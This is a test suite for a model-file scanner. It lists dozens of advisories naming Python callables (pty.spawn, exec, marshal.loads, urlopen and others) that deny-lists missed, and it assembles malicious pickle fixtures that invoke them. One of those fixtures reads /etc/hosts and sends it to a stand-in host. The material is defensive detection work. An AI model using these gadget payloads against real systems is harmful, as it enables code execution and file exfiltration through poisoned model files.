import { describe, expect, it } from 'vitest';
import { bytesOf, call, callPickle, op } from '../formats/pickle/assemble.fixture.ts';
import { anyAtLeast, audit } from './audit.fixture.ts';

/** Advisories whose whole trick is a callable that a scanner did not know: [advisory, module, qualified name]. */
const UNLISTED: readonly (readonly [string, string, string])[] = [
  ['CVE-2025-1716 GHSA-655q-fx9r-782v', 'pip', 'main'],
  ['CVE-2025-46417 GHSA-93mv-x874-956g', 'ssl', 'get_server_certificate'],
  ['CVE-2025-46417 GHSA-93mv-x874-956g (read)', 'linecache', 'getline'],
  ['CVE-2025-71351 GHSA-v7x6-rv5q-mhwc', 'timeit', 'timeit'],
  ['picklescan 0.0.25 runstring', 'numpy.testing._private.utils', 'runstring'],
  ['GHSA-4r9r-ch6f-vxmx', 'torch.utils.bottleneck.__main__', 'run_cprofile'],
  ['CVE-2025-71345 GHSA-4whj-rm5r-c2v8', 'torch.utils.bottleneck.__main__', 'run_autograd_prof'],
  ['GHSA-86cj-95qr-2p4f', 'torch._dynamo.guards', 'GuardBuilder.get'],
  ['GHSA-f4x7-rfwp-v3xw', 'torch.fx.experimental.symbolic_shapes', 'ShapeEnv.evaluate_guards_expression'],
  ['CVE-2025-71350 GHSA-f745-w6jp-hpxx', 'torch.utils.collect_env', 'run'],
  ['GHSA-jhph-76pp-mggw', 'torch.utils.collect_env', 'run_and_read_all'],
  ['GHSA-h3qp-7fh3-f8h4', 'torch.utils.data.datapipes.utils.decoder', 'basichandlers'],
  ['CVE-2025-71370 GHSA-vr7h-p6mm-wpmh', 'torch.jit.unsupported_tensor_ops', 'execWrapper'],
  ['GHSA-vv6j-3g6g-2pvj', 'torch.utils._config_module', 'ConfigModule.load_config'],
  ['GHSA-5qwp-399c-mjwf', 'trace', 'Trace.run'],
  ['GHSA-g344-hcph-8vgg', 'trace', 'Trace.runctx'],
  ['CVE-2025-71374 GHSA-x696-vm39-cp64', 'profile', 'Profile.run'],
  ['GHSA-6vqj-c2q5-j97w', 'profile', 'Profile.runctx'],
  ['CVE-2025-71359 GHSA-f54q-57x4-jg88', 'lib2to3.pgen2.grammar', 'Grammar.loads'],
  ['GHSA-p9w7-82w4-7q8m', 'lib2to3.pgen2.pgen', 'ParserGenerator.make_label'],
  ['GHSA-3vg9-h568-4w9m', 'idlelib.debugobj', 'ObjectTreeItem.SetText'],
  ['GHSA-6w4w-5w54-rjvr', 'idlelib.autocomplete', 'AutoComplete.get_entity'],
  ['GHSA-7cq8-mj8x-j263', 'idlelib.autocomplete', 'AutoComplete.fetch_completions'],
  ['GHSA-8r4j-24qv-fmq9', 'idlelib.calltip', 'Calltip.fetch_tip'],
  ['GHSA-9xph-j2h6-g47v', 'idlelib.calltip', 'get_entity'],
  ['GHSA-m869-42cg-3xwr', 'idlelib.run', 'Executive.runcode'],
  ['CVE-2025-71357 GHSA-j343-8v2j-ff7w', 'idlelib.pyshell', 'ModifiedInterpreter.runcommand'],
  ['GHSA-3gf5-cxq9-w223', 'idlelib.pyshell', 'ModifiedInterpreter.runcode'],
  ['CVE-2025-71371 GHSA-cj3c-v495-4xqh', 'code', 'InteractiveInterpreter.runcode'],
  ['CVE-2025-71344 GHSA-xp4f-hrf8-rxw7', 'ensurepip', '_run_pip'],
  ['GHSA-fqq6-7vqf-w3fg', 'doctest', 'debug_script'],
  ['CVE-2025-71378 GHSA-9w88-8rmg-7g2p', 'cProfile', 'runctx'],
  ['GHSA-49gj-c84q-6qm9', 'cProfile', 'run'],
  ['CVE-2025-71364 GHSA-q77w-mwjj-7mqx', 'asyncio.unix_events', '_UnixSubprocessTransport._start'],
  ['CVE-2025-10157 GHSA-f7qq-56ww-84cr', 'asyncio.unix_events', '_UnixSubprocessTransport._start'],
  ['CVE-2025-71321 GHSA-m273-6v24-x4m4', 'distutils.file_util', 'write_file'],
  ['GHSA-4675-36f9-wf6r', 'ctypes', 'CDLL'],
  ['CVE-2025-71320 GHSA-84r2-jw7c-4r5q (locate)', 'pydoc', 'locate'],
  ['CVE-2025-71320 GHSA-84r2-jw7c-4r5q (methodcaller)', 'operator', 'methodcaller'],
  ['CVE-2025-71322 GHSA-hgrh-qx5j-jfwx', 'pty', 'spawn'],
  ['GHSA-vqmv-47xg-9wpr', 'pty', 'spawn'],
  ['GHSA-r8g5-cgf2-4m4m', 'numpy.f2py.crackfortran', 'getlincoef'],
  ['CVE-2025-71365 GHSA-3329-ghmp-jmv5', 'numpy.f2py.crackfortran', 'myeval'],
  ['CVE-2025-71339 GHSA-6556-fwc2-fg2p', 'numpy.f2py.crackfortran', '_eval_length'],
  ['GHSA-x843-g5mx-g377', 'numpy.f2py.crackfortran', 'param_eval'],
  ['GHSA-955r-x9j8-7rhh', '_operator', 'methodcaller'],
  ['GHSA-46h3-79wf-xr6c', '_operator', 'attrgetter'],
  ['CVE-2026-56304 GHSA-m7j5-r2p5-c39r', 'logging', 'FileHandler'],
  ['picklescan 1.0.2 FileIO', '_io', 'FileIO'],
  ['picklescan 1.0.2 urlopen', 'urllib.request', 'urlopen'],
  ['picklescan 1.0.2 CodeType', 'types', 'CodeType'],
  ['picklescan 1.0.2 cloudpickle', 'cloudpickle.cloudpickle', '_make_function'],
  ['picklescan 1.0.2 cloudpickle builtin type', 'cloudpickle.cloudpickle', '_builtin_type'],
  ['GHSA-vvpj-8cmc-gx39', 'pkgutil', 'resolve_name'],
  ['GHSA-g38g-8gr9-h9xp (uuid)', 'uuid', '_get_command_stdout'],
  ['GHSA-g38g-8gr9-h9xp (imaplib)', 'imaplib', 'IMAP4_stream'],
  ['GHSA-g38g-8gr9-h9xp (osx)', '_osx_support', '_read_output'],
  ['GHSA-g38g-8gr9-h9xp (aix)', '_aix_support', '_read_cmd_output'],
  ['GHSA-g38g-8gr9-h9xp (pyrepl)', '_pyrepl.pager', 'pipe_pager'],
  ['GHSA-g38g-8gr9-h9xp (script_helper)', 'test.support.script_helper', 'assert_python_ok'],
  ['GHSA-5hwf-rc88-82xm', 'uuid', '_get_command_stdout'],
  ['GHSA-7wx9-6375-f5wh', 'profile', 'run'],
  ['picklescan #74 import_module', 'importlib', 'import_module'],
  ['picklescan #74 marshal', 'marshal', 'loads'],
  ['picklescan #74 joblib', 'joblib', 'load'],
  ['picklescan #74 torch', 'torch', 'load'],
  ['picklescan #74 dill', 'dill', 'loads'],
  ['picklescan #74 cloudpickle', 'cloudpickle', 'loads'],
  ['CVE-2025-67747 GHSA-565g-hwwr-4pp3', 'marshal', 'loads'],
  ['CVE-2026-22606 GHSA-wfq2-52f7-7qvj', 'runpy', 'run_path'],
  ['CVE-2026-22607 GHSA-p523-jq9w-64x9', 'cProfile', 'run'],
  ['CVE-2026-22608 GHSA-5hvc-6wx8-mvv4', 'pydoc', 'locate'],
  ['CVE-2026-22609 GHSA-q5qq-mvfm-j35x', 'multiprocessing.util', 'spawnv_passfds'],
  ['CVE-2026-22612 GHSA-h4rm-mm56-xf63', 'builtins', 'exec'],
  ['GHSA-mhc9-48gj-9gp3', 'smtplib', 'SMTP'],
  ['GHSA-wccx-j62j-r448', 'pickle', 'loads'],
  ['GHSA-fphw-536r-4p88', '_pickle', 'loads'],
  ['GHSA-r48f-3986-4f9c', 'difflib', 'Differ'],
  ['GHSA-5cxw-w2xg-2m8h', 'platform', '_syscmd_ver'],
  ['GHSA-m6fh-58r7-x697 (program)', '_posixsubprocess', 'fork_exec'],
  ['GHSA-m6fh-58r7-x697 (.pth files)', 'site', 'addsitedir'],
  ['GHSA-m6fh-58r7-x697 (at exit)', 'atexit', 'register'],
  ['GHSA-6ggj-6f2q-f7mx', '_pyrepl.console', 'InteractiveColoredConsole'],
  ['modelscan #338 mlflow', 'mlflow.projects.backend.local', '_run_entry_point'],
  ['modelscan #338 pandas', 'pandas.io.parsers.readers', 'read_csv'],
  ['Checkmarx bdb', 'bdb', 'Bdb.run'],
];

// GHSA-pc6j-px3p-rrj4 (fickling 0.1.11) names further modules that its deny-list lacked; which, is not public. A module
// that no list knows is what every case here is, and the allow-list denies them all.

describe('callables that deny-lists have missed', () => {
  it.each(UNLISTED)('%s: %s.%s', async (_advisory, module, name) => {
    const plain = await audit({ 'model.pkl': callPickle(module, name, 'echo harmless') });
    expect(anyAtLeast(plain, 'medium')).toBe(true);
    const dotted = bytesOf(
      op.proto(4),
      op.stackGlobal(module, name),
      op.str('echo harmless'),
      op.tuple1,
      op.reduce,
      op.stop,
    );
    expect(anyAtLeast(await audit({ 'model.bin': dotted }), 'medium')).toBe(true);
    expect(anyAtLeast(await audit({ 'weights.dat': bytesOf(call(module, name, 'x'), op.stop) }), 'medium')).toBe(true);
  });
});

it('CVE-2026-53872 GHSA-9726-w42j-3qjr: a file that is read and sent away, with neither named dangerous by itself', async () => {
  const opened = bytesOf(op.global('io', 'FileIO'), op.mark, op.str('/etc/hosts'), op.str('r'), op.tuple, op.reduce);
  const sent = bytesOf(
    op.proto(4),
    op.global('urllib.request', 'urlopen'),
    op.mark,
    op.str('https://model.example/'),
    opened,
    op.tuple,
    op.reduce,
    op.stop,
  );
  const found = await audit({ 'model.pkl': sent });
  const text = found.findings.map(({ message }) => message).join('\n');
  expect(text).toMatch(/FileIO/);
  expect(text).toMatch(/urlopen/);
  expect(anyAtLeast(found, 'high')).toBe(true);
});
